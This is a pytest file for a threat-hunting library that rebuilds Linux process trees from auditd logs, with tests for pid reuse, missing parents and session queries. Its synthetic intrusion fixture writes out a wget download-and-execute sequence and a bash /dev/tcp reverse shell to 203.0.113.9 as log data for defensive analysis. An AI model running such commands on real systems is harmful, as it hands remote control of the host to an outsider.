"""Process trees: a synthetic intrusion chain with pid reuse, and real auditd logs (laurel, msticpy)."""

from __future__ import annotations

from datetime import timedelta
from pathlib import Path

import pandas as pd
import pytest

from hunting.analysis.process_tree import (
    TREE,
    build_tree,
    guard_size,
    process_events,
    tree_for_session,
    tree_in_window,
    trees_for_executable,
)
from hunting.analysis.users import users_from_audit, users_from_passwd
from hunting.errors import QueryError
from hunting.readers.base import ReadOptions
from hunting.schema import AUDIT, conform

T0 = pd.Timestamp("2024-03-01 10:00:00", tz="UTC")

# (seconds, host, pid, ppid, uid, auid, ses, exe, cmdline)
CHAIN = [
    (0, "web01", 900, 1, 0, 4294967295, 4294967295, "/usr/sbin/sshd", "sshd: bob [priv]"),
    (1, "web01", 901, 900, 1000, 1000, 5, "/bin/bash", "-bash"),
    (2, "web01", 902, 901, 1000, 1000, 5, "/usr/bin/sudo", "sudo -i"),
    (2, "web01", 903, 902, 0, 1000, 5, "/bin/bash", "-bash"),  # same second as its parent sudo
    (3, "web01", 904, 903, 0, 1000, 5, "/usr/bin/wget", "wget http://203.0.113.9/x -O /tmp/x"),
    (4, "web01", 905, 903, 0, 1000, 5, "/bin/chmod", "chmod +x /tmp/x"),
    (5, "web01", 906, 903, 0, 1000, 5, "/tmp/x", "/tmp/x"),
    (6, "web01", 907, 906, 0, 1000, 5, "/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
    (7, "web01", 904, 907, 0, 1000, 5, "/usr/bin/id", "id"),  # pid 904 reused
    (8, "web01", 908, 904, 0, 1000, 5, "/usr/bin/whoami", "whoami"),  # child of id, not of wget
    (9, "web01", 950, 4242, 0, 4294967295, 4294967295, "/usr/sbin/cron", "cron -f"),  # parent never seen
    (10, "web01", 951, 4242, 0, 4294967295, 4294967295, "/bin/sh", "sh -c backup"),
    (3, "db01", 901, 900, 0, 0, 1, "/bin/ls", "ls"),  # pid 900 exists only on web01
]


def chain_audit(rows: list[tuple] = CHAIN) -> pd.DataFrame:
    frame = pd.DataFrame(
        [
            {
                "TimeGenerated": T0 + pd.Timedelta(seconds=s),
                "Computer": host,
                "EventId": f"{int(T0.timestamp()) + s}.000:{1000 + i}",
                "EventType": "SYSCALL",
                "RecordTypes": "SYSCALL,EXECVE,CWD,PATH,PROCTITLE",
                "Syscall": "59",
                "Success": "yes",
                "Pid": pid,
                "Ppid": ppid,
                "Uid": uid,
                "Auid": auid,
                "Euid": uid,
                "Ses": ses,
                "Exe": exe,
                "Cmdline": cmd,
            }
            for i, (s, host, pid, ppid, uid, auid, ses, exe, cmd) in enumerate(rows)
        ]
    )
    return conform(frame, AUDIT)


def chain_tree() -> pd.DataFrame:
    return build_tree(process_events(chain_audit(), users={0: "root", 1000: "bob"}))


def node(tree: pd.DataFrame, host: str, pid: int, exe: str | None = None) -> pd.Series:
    rows = tree[(tree["Computer"] == host) & (tree["Pid"] == pid)]
    if exe is not None:
        rows = rows[rows["Exe"] == exe]
    assert len(rows) == 1, rows
    return rows.iloc[0]


def test_process_events_keeps_execs_and_names_users() -> None:
    audit = pd.concat(
        [
            chain_audit(),
            conform(
                pd.DataFrame(
                    {
                        "EventType": ["USER_LOGIN", "SYSCALL"],
                        "RecordTypes": ["USER_LOGIN", "SYSCALL,SOCKADDR"],
                    }
                ),
                AUDIT,
            ),
        ],
        ignore_index=True,
    )
    procs = process_events(audit, users={0: "root", 1000: "bob"})
    assert len(procs) == len(CHAIN)
    sshd = procs.iloc[0]
    assert (sshd["User"], sshd["LoginUser"]) == ("root", "unset")
    sudo_bash = procs.iloc[3]
    assert (sudo_bash["User"], sudo_bash["LoginUser"]) == ("root", "bob")


def test_process_events_unknown_uid_shows_number_and_proctitle_fallback() -> None:
    audit = chain_audit(CHAIN[:1])
    audit.loc[0, "Cmdline"] = ""
    audit.loc[0, "Proctitle"] = "sshd: bob [priv]"
    audit.loc[0, "Uid"] = 1234
    procs = process_events(audit)
    assert procs.loc[0, "User"] == "1234"
    assert procs.loc[0, "Cmdline"] == "sshd: bob [priv]"


def test_process_events_duplicate_event_kept_once() -> None:
    audit = chain_audit()
    assert len(process_events(pd.concat([audit, audit], ignore_index=True))) == len(CHAIN)


def test_process_events_empty() -> None:
    assert list(process_events(AUDIT.empty()).columns) == list(build_tree(AUDIT.empty()).columns)[:18]


def test_build_tree_intrusion_chain_depths_and_counts() -> None:
    tree = chain_tree()
    assert list(tree.columns) == TREE.names
    assert len(tree) == 13 + 3  # 13 execs + synthetic parents pid 1 and 4242 (web01), 900 (db01)
    assert tree["ProcKey"].is_unique
    root = tree[(tree["Computer"] == "web01") & (tree["Pid"] == 1)].iloc[0]
    assert bool(root["IsSynthetic"]) and root["Cmdline"] == "unknown parent pid 1"
    expected = {  # (pid, exe): (depth, children, descendants)
        (900, "/usr/sbin/sshd"): (1, 1, 9),
        (901, "/bin/bash"): (2, 1, 8),
        (902, "/usr/bin/sudo"): (3, 1, 7),
        (903, "/bin/bash"): (4, 3, 6),
        (904, "/usr/bin/wget"): (5, 0, 0),
        (905, "/bin/chmod"): (5, 0, 0),
        (906, "/tmp/x"): (5, 1, 3),
        (907, "/bin/bash"): (6, 1, 2),
        (904, "/usr/bin/id"): (7, 1, 1),
        (908, "/usr/bin/whoami"): (8, 0, 0),
    }
    for (pid, exe), (depth, children, desc) in expected.items():
        n = node(tree, "web01", pid, exe)
        assert (n["Depth"], n["ChildCount"], n["DescendantCount"]) == (depth, children, desc), (pid, exe)
        assert n["RootKey"] == root["ProcKey"]
    assert (root["Depth"], root["ChildCount"], root["DescendantCount"]) == (0, 1, 10)
    whoami = node(tree, "web01", 908)
    assert whoami["ParentKey"] == node(tree, "web01", 904, "/usr/bin/id")["ProcKey"]
    assert whoami["Path"] == "[pid 1] > sshd > bash > sudo > bash > x > bash > id > whoami"


def test_build_tree_missing_parent_one_synthetic_node_per_host_and_pid() -> None:
    tree = chain_tree()
    cron_parent = node(tree, "web01", 4242)
    assert bool(cron_parent["IsSynthetic"])
    assert (cron_parent["ChildCount"], cron_parent["DescendantCount"]) == (2, 2)
    assert (
        node(tree, "web01", 950)["ParentKey"]
        == node(tree, "web01", 951)["ParentKey"]
        == cron_parent["ProcKey"]
    )
    db_ls = node(tree, "db01", 901)
    db_parent = node(tree, "db01", 900)
    assert bool(db_parent["IsSynthetic"]) and db_ls["ParentKey"] == db_parent["ProcKey"]
    assert db_ls["Path"] == "[pid 900] > ls"


def test_build_tree_depth_first_order() -> None:
    tree = chain_tree()
    web = tree[tree["Computer"] == "web01"]
    assert web["Name"].tolist() == [
        "[pid 1]", "sshd", "bash", "sudo", "bash", "wget", "chmod", "x", "bash", "id", "whoami",
        "[pid 4242]", "cron", "sh",
    ]  # fmt: skip


def test_build_tree_independent_of_input_order_and_stable_keys() -> None:
    procs = process_events(chain_audit())
    a = build_tree(procs)
    b = build_tree(procs.sample(frac=1, random_state=3))
    pd.testing.assert_frame_equal(a, b)


def test_build_tree_later_process_never_parent_of_earlier() -> None:
    # the child's exec is logged before any process with its ppid: synthetic parent, not the later one
    rows = [
        (0, "h", 20, 10, 0, 0, 1, "/bin/ls", "ls"),
        (5, "h", 10, 1, 0, 0, 1, "/bin/bash", "bash"),
    ]
    tree = build_tree(process_events(chain_audit(rows)))
    ls = node(tree, "h", 20)
    parents = tree[tree["ProcKey"] == ls["ParentKey"]]
    assert bool(parents["IsSynthetic"].iloc[0]) and parents["Pid"].iloc[0] == 10


def test_build_tree_failed_exec_is_not_a_parent() -> None:
    rows = [
        (0, "h", 10, 1, 0, 0, 1, "/bin/bash", "bash"),
        (1, "h", 10, 1, 0, 0, 1, "/nonexistent", "nonexistent"),
        (2, "h", 11, 10, 0, 0, 1, "/bin/ls", "ls"),
    ]
    audit = chain_audit(rows)
    audit.loc[1, "Success"] = "no"
    tree = build_tree(process_events(audit))
    assert node(tree, "h", 11)["ParentKey"] == node(tree, "h", 10, "/bin/bash")["ProcKey"]


def test_tree_for_session_adds_ancestors() -> None:
    tree = chain_tree()
    ses = tree_for_session(tree, ses=5, start=T0 + pd.Timedelta(seconds=6))
    # 907, id, whoami in session 5 from 10:00:06, plus ancestors up to the synthetic root
    assert ses["Name"].tolist() == ["[pid 1]", "sshd", "bash", "sudo", "bash", "x", "bash", "id", "whoami"]
    assert tree_for_session(tree, auid=0)["Computer"].tolist() == ["db01", "db01"]


def test_trees_for_executable_returns_whole_trees() -> None:
    tree = chain_tree()
    got = trees_for_executable(tree, "wget")
    assert len(got) == 11 and set(got["Computer"]) == {"web01"}
    assert len(trees_for_executable(tree, "/TMP/")) == 11  # substring, case-insensitive
    assert trees_for_executable(tree, "cron")["Pid"].tolist() == [4242, 950, 951]
    assert trees_for_executable(tree, "nothing-like-this").empty
    with pytest.raises(QueryError):
        trees_for_executable(tree, "  ")


def test_tree_in_window() -> None:
    tree = chain_tree()
    got = tree_in_window(tree, T0 + pd.Timedelta(seconds=9), timedelta(seconds=0), timedelta(seconds=1))
    assert got["Pid"].tolist() == [4242, 950, 951]


def test_guard_size() -> None:
    assert guard_size(2000) is None
    msg = guard_size(2001)
    assert msg is not None and "2,001" in msg and "2,000" in msg
    assert guard_size(50, limit=10) is not None


def test_users_from_passwd_and_audit() -> None:
    text = "root:x:0:0:root:/root:/bin/bash\n# comment\nbroken line\ntoor:x:0:0::/root:/bin/sh\nbob:x:1000:1000::/home/bob:/bin/bash\n"
    assert users_from_passwd(text) == {0: "root", 1000: "bob"}
    audit = conform(
        pd.DataFrame(
            {
                "Uid": [0, 1000, 1000, 4294967295],
                "UidName": ["root", "bob", "bob", "unset"],
                "Auid": [4294967295, 1000, 1001, 4294967295],
                "AuidName": ["unset", "bob", "1001", "unset"],
            }
        ),
        AUDIT,
    )
    assert users_from_audit(audit) == {0: "root", 1000: "bob"}


# --- real logs through the auditd reader -------------------------------------------------------


def laurel_tree(shared_data: Path, name: str) -> pd.DataFrame:
    auditd = pytest.importorskip("hunting.readers.auditd")
    path = shared_data / "laurel" / "testdata" / name
    result = auditd.AUDITD_READER.read(path.read_bytes(), str(path), 0.0, ReadOptions())
    return build_tree(process_events(result.tables["AuditEvents"]))


def test_build_tree_laurel_shell_proc_trace(shared_data: Path) -> None:
    # grep 'syscall=59 ' shows 4 execs: dash 71505 (ppid 71432), grep 71507 (ppid 71505),
    # echo 71508 and sed 71509 (ppid 71506, a forked subshell that never exec'd)
    tree = laurel_tree(shared_data, "shell-proc-trace.txt")
    assert len(tree) == 6
    grep = tree[tree["Pid"] == 71507].iloc[0]
    assert grep["Path"] == "[pid 71432] > dash > grep" and grep["Depth"] == 2
    sub = tree[tree["Pid"] == 71506].iloc[0]
    assert bool(sub["IsSynthetic"]) and sub["ChildCount"] == 2
    assert tree[tree["Pid"] == 71509]["Cmdline"].tolist() == ["/bin/sed -e s/foo/bar/"]


def test_build_tree_laurel_fork_sleep_exec_aarch64(shared_data: Path) -> None:
    # aarch64 (syscall 221, records logged before SYSCALL); /bin/true exec'd after its parent
    # exited, so it is reparented to pid 1: the tree can only show it under pid 1
    tree = laurel_tree(shared_data, "fork-sleep-exec.txt")
    real = tree[~tree["IsSynthetic"].astype(bool)]
    assert real["Pid"].tolist() == [1578539, 1578540]
    assert real["Path"].tolist() == ["[pid 3822680] > uncaring-parent", "[pid 1] > true"]


def test_build_tree_laurel_dpkg_exec_without_fork(shared_data: Path) -> None:
    # dpkg (1140462) execs dpkg-query with the same pid: a sibling under bash; "sh -c -- pager"
    # (ppid 1140462) belongs to the latest image, dpkg-query
    tree = laurel_tree(shared_data, "proc-trace-dpkg-l.txt")
    bash = tree[tree["Pid"] == 1140453].iloc[0]
    assert (bash["ChildCount"], bash["DescendantCount"], bash["Depth"]) == (6, 9, 1)
    pager = tree[tree["Pid"] == 1140463].iloc[0]
    assert pager["Path"] == "[pid 1140452] > bash > dpkg-query > dash"
    assert tree[tree["Pid"] == 1140462]["Name"].tolist() == ["dpkg", "dpkg-query"]


def test_build_tree_laurel_long_execve(shared_data: Path) -> None:
    tree = laurel_tree(shared_data, "record-execve-long.txt")
    real = tree[~tree["IsSynthetic"].astype(bool)]
    assert len(real) == 1
    assert len(real["Cmdline"].iloc[0]) > 8000  # a2 was split into a2[0].. chunks


def test_build_tree_msticpy_auditlog_cl(shared_data: Path) -> None:
    auditd = pytest.importorskip("hunting.readers.auditd")
    df = pd.read_csv(shared_data / "msticpy" / "linux_events.csv")
    audit, _ = auditd.audit_events_from_auditlog_cl(df)
    tree = build_tree(process_events(audit))
    assert int((~tree["IsSynthetic"].astype(bool)).sum()) == 82  # grep -c EXECVE
    agent = tree[tree["Pid"] == 22536].iloc[0]  # 39 rows with 'ppid=22536'
    assert (bool(agent["IsSynthetic"]), agent["ChildCount"], agent["DescendantCount"]) == (True, 39, 77)
    first = tree[tree["Pid"] == 28066].iloc[0]
    assert first["Cmdline"] == "/bin/sh -c iptables --version"  # a2 hex 69707461626C6573...
    assert first["LoginUser"] == "unset"
    keytab = tree[tree["Pid"] == 28098].iloc[0]
    assert str(keytab["Cmdline"]).startswith("/bin/sh -c [ -f /etc/krb5.keytab ] && [ \\( ! -f ")
    # sudo chain verified by grep: 1350 -> sudo 28129 -> ruby 28131 -> sudo 28133 -> test 28134
    chain = tree_for_session(tree, start=pd.Timestamp(1550505687.30, unit="s", tz="UTC"))
    sub = trees_for_executable(chain, "ruby")
    assert sub["Pid"].tolist() == [1350, 28129, 28131, 28133, 28134]
    assert sub["Path"].iloc[-1] == "[pid 1350] > sudo > ruby > sudo > test"
    assert sub["Uid"].tolist()[1:] == [998, 0, 0, 0]
